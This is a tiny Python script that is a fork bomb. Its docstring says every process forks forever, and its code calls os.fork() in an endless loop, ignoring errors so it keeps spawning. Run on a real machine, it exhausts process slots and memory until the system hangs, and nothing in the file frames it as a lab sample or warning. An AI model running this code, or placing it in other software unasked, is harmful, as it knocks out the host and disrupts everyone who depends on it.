"""Every process forks for ever, and goes on when it may not."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
